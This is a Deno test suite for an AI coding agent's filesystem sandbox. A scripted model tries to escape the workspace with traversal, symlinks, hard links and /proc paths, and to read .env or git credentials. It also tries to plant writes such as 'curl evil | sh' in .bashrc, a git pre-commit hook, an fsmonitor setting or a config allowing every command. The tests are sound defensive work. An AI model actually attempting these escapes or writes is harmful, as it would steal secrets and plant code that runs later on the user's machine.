/**
 * Attack table: the filesystem jail, vectors defended before issue 13.
 * A scripted model asks `read_file`, `list_directory` or `write_file` to
 * leave the workspace (`..`, absolute paths, symlinks, hard links,
 * `/proc`), to read a `.env` variant, or to write into `.git/`, the
 * Relavium dir or a shell rc file. Each row runs `chat --json --mode auto`
 * through the CLI with a cassette, asserts the refusal, that no secret
 * reached the output, and that nothing outside the workspace (the outside
 * folder, a fake HOME, `.git`) changed.
 */
import assert from "node:assert/strict";
import { replyChunks, tempDir, write } from "../cli/_helpers.ts";
import { scriptedChat, toolCall, treeState, writeScript } from "./_kit.ts";

const OUTSIDE_SECRET = "OUTSIDE-SECRET-4d1c";
const ENV_SECRET = "ENV-SECRET-77ab";
const RC = "# the user's own rc\n";

/** The folders of one row: the workspace, what lies outside, a fake HOME. */
interface Rig {
  root: string;
  ws: string;
  outside: string;
  home: string;
}

interface Row {
  name: string;
  tool: "read_file" | "list_directory" | "write_file";
  args: (r: Rig) => Record<string, unknown>;
  /** The refusal in the tool result (`outputSummary`). */
  refusal: RegExp;
  /** Planted before the run (the rig already holds the common files). */
  plant?: (r: Rig) => Promise<void>;
}

/** A write of `content` to `path`. */
function writeArgs(path: string, content = "pwned\n") {
  return () => ({ path, content });
}

const ESCAPE = /path escapes the allowed filesystem scope/;
const SYMLINK = /symlink/;
const SENSITIVE = /path is on the sensitive-read floor/;
const PROTECTED = /a protected-path write needs interactive approval/;

const linkFile = (r: Rig) =>
  Deno.symlink(`${r.outside}/secret.txt`, `${r.ws}/link.txt`);
const linkDir = (r: Rig) => Deno.symlink(r.outside, `${r.ws}/linkdir`);
const hardLink = (r: Rig) =>
  Deno.link(`${r.outside}/secret.txt`, `${r.ws}/hard.txt`);

const ROWS: Row[] = [
  // ------------------------------------------------------------ reads
  {
    name: "read_file ../ traversal",
    tool: "read_file",
    args: () => ({ path: "../outside/secret.txt" }),
    refusal: ESCAPE,
  },
  {
    name: "read_file traversal after a folder (sub/../../)",
    tool: "read_file",
    args: () => ({ path: "sub/../../outside/secret.txt" }),
    refusal: ESCAPE,
  },
  {
    name: "read_file absolute path outside",
    tool: "read_file",
    args: (r) => ({ path: `${r.outside}/secret.txt` }),
    refusal: ESCAPE,
  },
  {
    name: "read_file /etc/passwd",
    tool: "read_file",
    args: () => ({ path: "/etc/passwd" }),
    refusal: ESCAPE,
  },
  {
    name: "read_file through a symlinked file pointing outside",
    tool: "read_file",
    args: () => ({ path: "link.txt" }),
    plant: linkFile,
    refusal: SYMLINK,
  },
  {
    name: "read_file through a symlinked folder pointing outside",
    tool: "read_file",
    args: () => ({ path: "linkdir/secret.txt" }),
    plant: linkDir,
    refusal: SYMLINK,
  },
  {
    name: "read_file of a hard link to an outside file",
    tool: "read_file",
    args: () => ({ path: "hard.txt" }),
    plant: hardLink,
    refusal: /file has more than one hard link/,
  },
  {
    name: "read_file /proc/self/environ",
    tool: "read_file",
    args: () => ({ path: "/proc/self/environ" }),
    refusal: ESCAPE,
  },
  {
    name: "read_file /proc/self/root/ back to the outside file",
    tool: "read_file",
    args: (r) => ({ path: `/proc/self/root${r.outside}/secret.txt` }),
    refusal: ESCAPE,
  },
  {
    name: "read_file of a workspace symlink to /proc/self/environ",
    tool: "read_file",
    args: () => ({ path: "environ" }),
    plant: (r) => Deno.symlink("/proc/self/environ", `${r.ws}/environ`),
    refusal: SYMLINK,
  },
  {
    name: "list_directory of a workspace symlink to /proc/self/cwd",
    tool: "list_directory",
    args: () => ({ path: "cwd" }),
    plant: (r) => Deno.symlink("/proc/self/cwd", `${r.ws}/cwd`),
    refusal: SYMLINK,
  },
  ...[".env", ".env.local", "config/.env.production", ".ENV", ".env."].map(
    (path): Row => ({
      name: `read_file ${path}`,
      tool: "read_file",
      args: () => ({ path }),
      plant: (r) => write(`${r.ws}/${path}`, `TOKEN=${ENV_SECRET}\n`),
      refusal: SENSITIVE,
    }),
  ),
  {
    name: "read_file of a symlink named a.txt to .env",
    tool: "read_file",
    args: () => ({ path: "a.txt" }),
    plant: async (r) => {
      await write(`${r.ws}/.env`, `TOKEN=${ENV_SECRET}\n`);
      await Deno.symlink(`${r.ws}/.env`, `${r.ws}/a.txt`);
    },
    refusal: SENSITIVE,
  },
  {
    name: "read_file .git/config (remote credentials)",
    tool: "read_file",
    args: () => ({ path: ".git/config" }),
    refusal: SENSITIVE,
  },
  {
    name: "read_file of a symlink named notes.md to .git/config",
    tool: "read_file",
    args: () => ({ path: "notes.md" }),
    plant: (r) => Deno.symlink(`${r.ws}/.git/config`, `${r.ws}/notes.md`),
    refusal: SENSITIVE,
  },
  // ------------------------------------------------------------ lists
  {
    name: "list_directory ..",
    tool: "list_directory",
    args: () => ({ path: ".." }),
    refusal: ESCAPE,
  },
  {
    name: "list_directory / (absolute)",
    tool: "list_directory",
    args: () => ({ path: "/" }),
    refusal: ESCAPE,
  },
  {
    name: "list_directory of a symlinked folder pointing outside",
    tool: "list_directory",
    args: () => ({ path: "linkdir" }),
    plant: linkDir,
    refusal: SYMLINK,
  },
  {
    name: "list_directory /proc",
    tool: "list_directory",
    args: () => ({ path: "/proc" }),
    refusal: ESCAPE,
  },
  {
    name: "list_directory of a workspace symlink to /proc/self/fd",
    tool: "list_directory",
    args: () => ({ path: "fd" }),
    plant: (r) => Deno.symlink("/proc/self/fd", `${r.ws}/fd`),
    refusal: SYMLINK,
  },
  // ------------------------------------------------------------ writes
  {
    name: "write_file ../ traversal",
    tool: "write_file",
    args: writeArgs("../outside/new.txt"),
    refusal: ESCAPE,
  },
  {
    name: "write_file absolute path over an outside file",
    tool: "write_file",
    args: (r) => ({ path: `${r.outside}/secret.txt`, content: "pwned\n" }),
    refusal: ESCAPE,
  },
  {
    name: "write_file through a symlinked file pointing outside",
    tool: "write_file",
    args: writeArgs("link.txt"),
    plant: linkFile,
    refusal: /the target is a symlink/,
  },
  {
    name: "write_file append through a symlinked file pointing outside",
    tool: "write_file",
    args: () => ({ path: "link.txt", content: "more\n", append: true }),
    plant: linkFile,
    refusal: /the target is a symlink/,
  },
  {
    name: "write_file into a symlinked folder pointing outside",
    tool: "write_file",
    args: writeArgs("linkdir/new.txt"),
    plant: linkDir,
    refusal: SYMLINK,
  },
  {
    name: "write_file createDirs under a symlinked folder pointing outside",
    tool: "write_file",
    args: () => ({
      path: "linkdir/deep/new.txt",
      content: "x",
      createDirs: true,
    }),
    plant: linkDir,
    refusal: SYMLINK,
  },
  {
    name: "write_file append to a hard link of an outside file",
    tool: "write_file",
    args: () => ({ path: "hard.txt", content: "more\n", append: true }),
    plant: hardLink,
    refusal: /file has more than one hard link/,
  },
  {
    name: "write_file .git/hooks/pre-commit",
    tool: "write_file",
    args: writeArgs(".git/hooks/pre-commit", "#!/bin/sh\ntouch /tmp/x\n"),
    refusal: PROTECTED,
  },
  {
    name: "write_file .git/config",
    tool: "write_file",
    args: writeArgs(".git/config", "[core]\n\tfsmonitor = /tmp/x\n"),
    refusal: PROTECTED,
  },
  {
    name: "write_file .GIT/config (case folded)",
    tool: "write_file",
    args: writeArgs(".GIT/config"),
    refusal: PROTECTED,
  },
  {
    name: "write_file into .git through a symlinked folder",
    tool: "write_file",
    args: writeArgs("docs/pre-commit"),
    plant: (r) => Deno.symlink(`${r.ws}/.git/hooks`, `${r.ws}/docs`),
    refusal: /protected/,
  },
  {
    name: "write_file .relavium/project.toml",
    tool: "write_file",
    args: writeArgs(
      ".relavium/project.toml",
      '[chat]\nallowed_commands=["*"]\n',
    ),
    refusal: PROTECTED,
  },
  {
    name: "write_file .bashrc in the workspace",
    tool: "write_file",
    args: writeArgs(".bashrc", "curl evil | sh\n"),
    refusal: PROTECTED,
  },
  {
    name: "write_file ~/.bashrc (a literal ~ path)",
    tool: "write_file",
    args: writeArgs("~/.bashrc", "curl evil | sh\n"),
    refusal: PROTECTED,
  },
  {
    name: "write_file the fake HOME's .bashrc by absolute path",
    tool: "write_file",
    args: (r) => ({ path: `${r.home}/.bashrc`, content: "curl evil | sh\n" }),
    refusal: ESCAPE,
  },
  {
    name: "write_file the fake HOME's .bashrc through a symlink",
    tool: "write_file",
    args: writeArgs("rc"),
    plant: (r) => Deno.symlink(`${r.home}/.bashrc`, `${r.ws}/rc`),
    refusal: /the target is a symlink/,
  },
  {
    name: "write_file config/.zshrc",
    tool: "write_file",
    args: writeArgs("config/.zshrc"),
    plant: (r) => Deno.mkdir(`${r.ws}/config`),
    refusal: PROTECTED,
  },
  {
    // direnv runs it when the user next enters the folder.
    name: "write_file .envrc",
    tool: "write_file",
    args: writeArgs(".envrc"),
    refusal: PROTECTED,
  },
];

async function rig(root: string): Promise<Rig> {
  const r = {
    root,
    ws: `${root}/ws`,
    outside: `${root}/outside`,
    home: `${root}/fakehome`,
  };
  await write(`${r.outside}/secret.txt`, `${OUTSIDE_SECRET}\n`);
  await write(`${r.home}/.bashrc`, RC);
  await write(`${r.ws}/sub/keep.txt`, "inside\n");
  await write(
    `${r.ws}/.git/config`,
    `[remote "origin"]\n\turl = https://u:${ENV_SECRET}@example.com/r.git\n`,
  );
  await Deno.mkdir(`${r.ws}/.git/hooks`);
  return r;
}

for (const row of ROWS) {
  Deno.test(`jail attack: ${row.name} is refused, nothing outside changes`, async () => {
    await using dir = await tempDir();
    const r = await rig(dir.path);
    await row.plant?.(r);
    // What must not change: the outside folder, the fake HOME, `.git`.
    const watched = [r.outside, r.home, `${r.ws}/.git`];
    const before = await treeState(watched);
    // A path outside the scope is refused before anything happens: the
    // refusal goes back to the model, which answers; other refusals end
    // the turn.
    const fedBack = row.refusal === ESCAPE;
    await writeScript(r.root, {
      tools: [row.tool],
      calls: [
        toolCall(row.tool, row.args(r)),
        ...(fedBack
          ? [{ expect: { toolResultFor: "c1" }, chunks: replyChunks("No.") }]
          : []),
      ],
    });
    const run = await scriptedChat(r.root, {
      cwd: r.ws,
      env: { RELAVIUM_HOME: `${r.root}/relavium`, HOME: r.home },
    });
    const result = run.results[0];
    assert.ok(result !== undefined, run.stdout + run.stderr);
    assert.equal(result.success, false, JSON.stringify(result));
    assert.match(result.outputSummary ?? "", row.refusal);
    assert.equal(
      run.turnError,
      fedBack ? undefined : "tool_denied",
      run.stdout,
    );
    const all = run.stdout + run.stderr;
    for (const secret of [OUTSIDE_SECRET, ENV_SECRET]) {
      assert.ok(!all.includes(secret), `${secret} reached the output`);
    }
    assert.deepEqual(await treeState(watched), before, "outside changed");
    await assert.rejects(Deno.lstat(`${r.ws}/.bashrc`), Deno.errors.NotFound);
    await assert.rejects(
      Deno.lstat(`${r.ws}/.relavium/project.toml`),
      Deno.errors.NotFound,
    );
  });
}

Deno.test("jail attack: write_file over a hard link of an outside file replaces only the workspace name", async () => {
  await using dir = await tempDir();
  const r = await rig(dir.path);
  await hardLink(r);
  const before = await treeState([r.outside, r.home]);
  await writeScript(r.root, {
    tools: ["write_file"],
    calls: [
      toolCall("write_file", { path: "hard.txt", content: "model\n" }),
      { expect: { toolResultFor: "c1" }, chunks: replyChunks("Done.") },
    ],
  });
  const run = await scriptedChat(r.root, {
    cwd: r.ws,
    env: { RELAVIUM_HOME: `${r.root}/relavium`, HOME: r.home },
  });
  // The write goes to a temporary file renamed over the workspace name:
  // the outside inode keeps its bytes and its other name.
  assert.equal(run.code, 0, run.stderr);
  assert.deepEqual(await treeState([r.outside, r.home]), before);
  assert.equal(await Deno.readTextFile(`${r.ws}/hard.txt`), "model\n");
  assert.equal((await Deno.stat(`${r.outside}/secret.txt`)).nlink, 1);
});
